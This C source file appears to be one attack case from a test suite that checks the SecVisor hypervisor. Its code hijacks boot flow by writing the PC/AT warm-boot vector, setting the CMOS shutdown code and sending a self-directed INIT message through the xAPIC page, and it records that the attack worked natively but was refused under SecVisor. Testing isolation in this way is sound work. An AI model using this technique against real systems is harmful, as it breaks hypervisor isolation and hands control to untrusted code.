// Row 27. INIT to the first CPU by a message (MSI) that it writes itself, at an address without a register in the xAPIC's page; the firmware then goes on where the warm-boot vector says, outside of whoever ran before.
// Source: AMD64 APM 2, 16.11; the warm-boot vector 40:67h of the PC/AT, with shutdown code 0Ah.
// Ends: natively succeeded; beneath SecVisor refused, apic.
#include "common/attack.h"

ATTACK("init-message-first")
{
	u64 bios = map_physical(0, KERNEL_DATA), apic = map_physical(0xfee00000, KERNEL_DATA | 0x18);

	prepare_start_saying("init-message-first", "the firmware started our code", 1);
	operate(VULNERABLE_STORE, bios + 0x467, START_PAGE >> 4 << 16, 4);
	operate(VULNERABLE_OUT, 0x70, 1, 0x8f);
	operate(VULNERABLE_OUT, 0x71, 1, 0x0a);
	about_to("send INIT by a message");
	operate(VULNERABLE_STORE, apic, 0x4500, 4);
	operate(VULNERABLE_OUT, 0x70, 1, 0x8f);
	operate(VULNERABLE_OUT, 0x71, 1, 0);
	refused("no INIT came");
}
